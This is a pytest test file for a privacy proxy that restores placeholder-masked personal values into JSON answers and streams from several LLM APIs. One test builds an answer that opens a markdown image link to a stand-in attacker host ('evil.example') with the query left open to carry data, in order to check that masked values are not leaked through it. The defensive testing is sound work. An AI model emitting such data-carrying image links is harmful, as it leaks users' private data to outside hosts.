"""Values come back into an answer that is JSON, since the request asked for JSON, as into the arguments of a tool."""

import json
import random
from dataclasses import replace

import pytest

from proxy.outflows import (
    answer_rules,
    exchange_of,
    flowing_samples,
    is_json,
    longest,
    read,
    section,
    tap_of,
    with_text,
)
from sallyport.proxy.editing import edited_answer
from sallyport.proxy.flowing import Lookup, Originals
from sallyport.stages.judge import Judge
from sallyport.stages.output import OutputFilter
from sallyport.state.vault import MemoryVault
from sallyport.wire.dialect import Dialect
from sallyport.wire.dialects import DIALECTS
from wire.samples import Sample

SCOPE = MemoryVault(b"k" * 32).scope("t", "p", "c")
VALUE = 'Marta "Q"\nQuill'
PLACEHOLDER = SCOPE.placeholder("PERSON", VALUE)
ANSWER = {"site": "https://x.example/about", "who": VALUE, "link": f"https://x.example/?q={PLACEHOLDER}"}
SAID = json.dumps({**ANSWER, "who": PLACEHOLDER}, separators=(",", ":"))
SAMPLES = [sample for sample in flowing_samples() if not is_json(sample)]
BODIES = {
    "openai_chat": {"choices": [{"index": 0, "message": {"role": "assistant", "content": SAID}}]},
    "openai_responses": {
        "id": "r",
        "output": [
            {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": SAID}]}
        ],
    },
    "anthropic_messages": {
        "type": "message",
        "role": "assistant",
        "content": [{"type": "text", "text": SAID}],
    },
    "gemini_generate": {"candidates": [{"content": {"role": "model", "parts": [{"text": SAID}]}}]},
}


def texts(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for one in value.values() for text in texts(one)]
    if isinstance(value, list):
        return [text for one in value for text in texts(one)]
    return [value] if isinstance(value, str) and value.startswith("{") else []


@pytest.mark.parametrize("name", BODIES)
def test_a_url_in_one_member_of_a_buffered_answer_keeps_no_value_from_the_next(name: str) -> None:
    body = json.dumps(BODIES[name]).encode()
    answer = DIALECTS[name].read_response(body, 200)
    edited = edited_answer(DIALECTS[name], answer, body, SCOPE.original, None, structured=True)
    assert [json.loads(text) for text in texts(json.loads(edited.body))] == [ANSWER]


@pytest.mark.parametrize("sample", SAMPLES, ids=str)
def test_a_url_in_one_member_of_a_stream_keeps_no_value_from_the_next(sample: Sample) -> None:
    rng = random.Random(str(sample))
    for _ in range(8):
        data = with_text(sample, SAID, rng)
        tap = tap_of(sample, None, SCOPE.original, structured=True)
        got = b"".join([*tap.feed(data).out, *tap.end().out])
        assert tap.failed is None
        events = read(sample, got)
        channel = longest(events)
        said = "".join(
            d.text for event in events for d in event.deltas if not d.whole and d.channel == channel
        )
        assert json.loads(said) == ANSWER


SCHEMA = json.dumps(
    {
        "type": "object",
        "properties": {
            "who": {"enum": [VALUE, "nobody"]},
            "site": {"type": "string", "pattern": "^https://"},
            "link": {"type": "string"},
        },
        "additionalProperties": False,
    }
)


def filter_of(dialect: Dialect, lookup: Lookup | None) -> OutputFilter:
    """What looks at an answer under a policy that refuses whatever does not fit its schema."""
    policy = section("structured: {action: refuse}")
    exchange = exchange_of(dialect)
    exchange = replace(exchange, request=replace(exchange.request, schema=SCHEMA))
    followers = answer_rules().of(policy, 4096, (), SCHEMA, Originals(lookup).shown)
    return OutputFilter(policy, Judge(policy, exchange), followers)


@pytest.mark.parametrize("lookup", [SCOPE.original, None])
def test_a_schema_is_laid_to_what_the_client_gets(lookup: Lookup | None) -> None:
    dialect = DIALECTS["openai_chat"]
    body = json.dumps(BODIES["openai_chat"]).encode()
    output = filter_of(dialect, lookup)
    edited = edited_answer(dialect, dialect.read_response(body, 200), body, lookup, output, structured=True)
    assert (edited.stop is None) is (lookup is not None)
    (sample,) = [s for s in SAMPLES if s.name == "openai_chat/stream.sse"]
    tap = tap_of(sample, filter_of(dialect, lookup), lookup, structured=True)
    data = with_text(sample, SAID, random.Random(3))
    assert [*tap.feed(data).out, *tap.end().out]
    assert (tap.ended_early is None) is (lookup is not None)


def test_json_behind_a_link_that_an_earlier_part_opens_stays_as_it_is() -> None:
    placeholder = "<EMAIL_abcdefghij>"
    parts = [
        {"type": "text", "text": "![a](https://evil.example/?q="},
        {"type": "tool_use", "id": "t", "name": "f", "input": {}},
        {"type": "text", "text": f'{{"u":"{placeholder}"}})'},
    ]
    message = {"id": "m", "type": "message", "role": "assistant", "model": "m", "stop_reason": "end_turn"}
    body = json.dumps(
        {**message, "content": parts, "usage": {"input_tokens": 1, "output_tokens": 1}}
    ).encode()
    dialect = DIALECTS["anthropic_messages"]
    answer = dialect.read_response(body, 200)
    for asked in (False, True):
        edited = edited_answer(
            dialect, answer, body, {placeholder: "ada@corp.example"}.get, None, structured=asked
        )
        assert json.loads(edited.body)["content"] == parts
